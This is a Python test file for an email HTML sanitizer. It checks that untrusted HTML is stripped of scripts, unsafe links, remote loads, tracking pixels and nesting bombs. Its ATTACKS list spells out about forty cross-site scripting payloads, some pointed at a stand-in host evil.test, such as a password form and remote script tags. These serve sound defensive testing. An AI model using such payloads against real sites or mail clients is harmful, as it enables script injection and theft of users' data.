"""Whatever HTML a stranger sends, nothing of it runs, leaves its box, or loads before it is asked for."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from parley.channels.adapters.email.html import ATTRIBUTES, TAGS, safe

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='cid:a' onerror='alert(1)'>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.test/x'>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='//evil.test/x.png'>",
    "<iframe src='https://evil.test'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<form action='https://evil.test'><input name=password><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href='https://evil.test/'>",
    "<link rel=stylesheet href='https://evil.test/x.css'>",
    "<style>@import 'https://evil.test/x.css';*{position:fixed}</style>",
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999'>x</div>",
    "<div style='background:url(https://evil.test/x)'>x</div>",
    "<div style='background-color:u\\72l(https://evil.test/x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='margin-left:-9999px;font-size:99999px'>x</div>",
    "<div style='padding:-50px;border:9999px solid red'>x</div>",
    "<div id=login class=modal name=x onclick=alert(1)>x</div>",
    "<table background='https://evil.test/x'><tr><td background='https://evil.test/x'>x</td></tr></table>",
    "<video src='https://evil.test/x' poster='https://evil.test/y'></video><audio src=x></audio>",
    "<img srcset='https://evil.test/x 2x' src='https://evil.test/x.png'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<p title='<img src=\"x\" onerror=alert(1)>'>x</p>",
    "<a title='<img x=' href=' y=\"z\">&quot; onmouseover=&quot;alert(1)'>x</a>",
    "<img alt='\" onerror=\"alert(1)' src='https://evil.test/x.png'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<custom-element onclick=alert(1)>x</custom-element>",
]
FORBIDDEN_STYLE = re.compile(r"url|expression|position|margin|z-index|\\|-\d|\d{4}")
IMAGES = {"a": "/files/a.png", "p@x": "/files/p.png"}


class Seen(HTMLParser):
    """What a browser would be given: every tag with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def harm(html: str) -> list[str]:
    """Everything in the result that should not be there."""
    return [problem for tag, attributes in Seen(html).tags for problem in _problems(tag, attributes)]


def _problems(tag: str, attributes: dict[str, str]) -> list[str]:
    allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"rel", "target", "loading", "referrerpolicy", "data-remote-src"}
    found = [f"<{tag}>"] if tag not in TAGS else []
    found += [f"{tag} {name}" for name in attributes if name not in allowed]
    found += [f"style {attributes['style']}"] if FORBIDDEN_STYLE.search(attributes.get("style", "").lower()) else []
    source, link = attributes.get("src", "/files/"), attributes.get("href", "https:")
    found += [] if source.startswith(("/files/", "data:image/png;base64,")) else [f"src {source}"]
    found += [] if link.lower().startswith(("https:", "http:", "mailto:", "tel:")) else [f"href {link}"]
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_disarmed(attack: str) -> None:
    assert harm(safe(f"<p>Привет {attack} мир</p>", images=IMAGES, remote=False)) == []


@given(st.lists(st.sampled_from([*ATTACKS, *"<>\"'/= \t&;", "<img ", "<a ", "src=", "href=", "style=", "<!--", "-->", "x"]), max_size=12))
def test_no_mixture_of_attacks_gets_through(pieces: list[str]) -> None:
    assert harm(safe("".join(pieces), images=IMAGES, remote=False)) == []


@given(st.text(max_size=200))
def test_any_text_is_harmless(text: str) -> None:
    assert harm(safe(text, images=IMAGES, remote=False)) == []


def test_formatting_stays() -> None:
    html = '<p style="color:red">Привет, <b>мир</b></p><table><tr><td colspan="2" bgcolor="#eee">1</td></tr></table>'

    assert safe(html, images={}, remote=False).replace("<tbody>", "").replace("</tbody>", "") == html


def test_links_open_apart_and_tell_nothing() -> None:
    [(_, attributes)] = Seen(safe('<a href="https://a.test">x</a>', images={}, remote=False)).tags

    assert attributes == {"href": "https://a.test", "rel": "noopener noreferrer nofollow", "target": "_blank"}


def test_own_images_are_shown_and_unknown_ones_are_not() -> None:
    html = safe('<img src="cid:p%40x" alt="фото"><img src="cid:unknown">', images=IMAGES, remote=False)

    assert [attributes["src"] for _, attributes in Seen(html).tags] == ["/files/p.png"]


def test_remote_images_wait_until_they_are_asked_for() -> None:
    html = '<img src="https://a.test/x.png" alt="x">'
    [(_, waiting)] = Seen(safe(html, images={}, remote=False)).tags
    [(_, loading)] = Seen(safe(html, images={}, remote=True)).tags

    assert (waiting.get("src"), waiting["data-remote-src"]) == (None, "https://a.test/x.png")
    assert (loading["src"], loading["referrerpolicy"], loading["loading"]) == ("https://a.test/x.png", "no-referrer", "lazy")


@pytest.mark.parametrize("size", ['width="1" height="1"', "width=0", "height='1px'", 'height="2"'])
def test_tracking_pixels_are_dropped_even_when_images_are_asked_for(size: str) -> None:
    assert "img" not in safe(f'<p>x</p><img src="https://track.test/p.gif" {size}>', images={}, remote=True)


@pytest.mark.parametrize(
    "html",
    [
        "".join(f"<p><font size={n}>" for n in range(3000)),
        "<div>" * 50_000,
        "<b><i><u>" * 10_000,
        "<table><tr><td>" * 5_000,
        "<a href=x>" * 10_000,
        "<p><b>" * 20_000,
        "&" * 100_000,
    ],
    ids=["fonts", "divs", "inline", "tables", "links", "bold", "ampersands"],
)
def test_html_that_would_grow_without_end_is_small_when_shown(html: str) -> None:
    assert len(safe(f"Привет{html}", images={}, remote=False)) < 10 * len(html)
